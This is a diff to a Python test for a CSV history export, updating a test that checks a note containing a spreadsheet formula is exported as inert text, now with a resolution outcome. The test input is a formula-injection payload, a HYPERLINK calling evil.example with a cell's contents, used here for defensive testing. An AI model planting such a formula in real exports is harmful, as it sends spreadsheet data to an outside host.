@@ -12,7 +12,7 @@ from tests.factories import TeamFactory, UploadFactory
 from tests.helpers import login_url, make_user
 from tests.views.test_history import sales_and_finance_history
 from uploads import services
-from uploads.models import AuditEvent
+from uploads.models import AuditEvent, Upload
 from uploads.views.history import safe_cell
 
 HEADER = ["time", "team", "person", "action", "description", "upload", "details"]
@@ -93,10 +93,15 @@ def test_a_member_cannot_export_another_teams_events(client, history, alice):
 
 def test_a_formula_in_a_note_comes_out_as_text(client, team, operator, failed):
     note = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
-    services.upload_resolve(upload=failed, user=operator, note=note)
+    services.upload_resolve(
+        upload=failed,
+        user=operator,
+        note=note,
+        outcome=Upload.ResolutionOutcome.APPLIED,
+    )
     client.force_login(operator)
     rows = read_csv(client.get("/history/export.csv?action=upload.resolved"))
-    assert rows[0]["details"] == "'" + note
+    assert rows[0]["details"] == f"'{note}; outcome: applied"
     assert rows[0]["description"] == f"operator resolved: {note}"  # starts safely
 
 
